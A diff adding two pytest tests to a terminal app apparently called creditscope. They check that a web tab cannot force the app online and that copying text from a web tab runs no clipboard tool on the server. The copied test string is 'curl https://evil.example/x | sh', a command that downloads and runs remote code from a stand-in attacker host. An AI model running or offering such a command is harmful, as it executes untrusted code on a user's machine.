@@ -91,3 +91,58 @@ def test_an_export_written_on_this_machine_is_the_owners_only(
     assert web_tab.save_text(App(), target, '{"log": {}}') == str(target)
     assert target.read_text(encoding="utf-8") == '{"log": {}}'
     assert oct(target.stat().st_mode & 0o777) == "0o600"
+
+
+async def test_a_web_tab_cannot_go_online_when_the_presenter_set_offline(
+    make_app: Callable[..., CreditscopeApp], web_tab: list[Any]
+) -> None:
+    from creditscope.tui.widgets.error_panel import GO_ONLINE, ErrorPanel
+
+    app = make_app(offline=True)
+    async with app.run_test(size=SIZE) as pilot:
+        client = await app.wait_for_client()
+        await app.switch_mode("restaurants")
+        await settle(pilot)
+        box = app.screen.query_one("#location", Input)
+        box.value = "Porto"  # not cached: offline, the error offers "Go online"
+        box.focus()
+        await pilot.press("enter")
+        await settle(pilot)
+        go_online = next(b for b in app.screen.query_one(ErrorPanel).query(Button)
+                         if b.name == GO_ONLINE)
+        await pilot.click(go_online)
+        await settle(pilot)
+        assert app.settings.offline is True
+        assert app.client is client and client.offline  # not rebuilt online
+        assert client.ledger.session_spent() == 0
+        assert "cannot go online" in " ".join(
+            str(n.message) for n in app._notifications)
+
+
+async def test_a_copy_in_a_web_tab_runs_no_clipboard_tool_on_the_server(
+    make_app: Callable[..., CreditscopeApp], web_tab: list[Any], tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    from creditscope import clipboard_check
+    from creditscope.tui import clipboard
+
+    ran = tmp_path / "clipboard-tool-ran"
+    tools = tmp_path / "bin"
+    tools.mkdir()
+    for name in ("wl-copy", "xclip", "xsel", "pbcopy"):
+        tool = tools / name
+        tool.write_text(f"#!/bin/sh\ncat > {ran}\n", encoding="utf-8")
+        tool.chmod(0o755)
+    monkeypatch.setenv("PATH", f"{tools}:/usr/bin:/bin")
+    monkeypatch.setenv("DISPLAY", ":0")  # the presenter's desktop, where a tool would paste
+    # The suite turns the tool off for every explorer test; here the server has one.
+    monkeypatch.setattr(clipboard, "platform_tool", clipboard_check.platform_tool)
+    copied: list[str] = []
+    monkeypatch.setattr(CreditscopeApp, "copy_to_clipboard", lambda self, text: copied.append(text))
+    app = make_app()
+    async with app.run_test(size=SIZE) as pilot:
+        assert clipboard.copy_text(app, "curl https://evil.example/x | sh", "curl command")
+        await app.workers.wait_for_complete()
+        await settle(pilot)
+    assert copied == ["curl https://evil.example/x | sh"]  # to the browser, through the page
+    assert not ran.exists(), "a clipboard tool ran on the server"
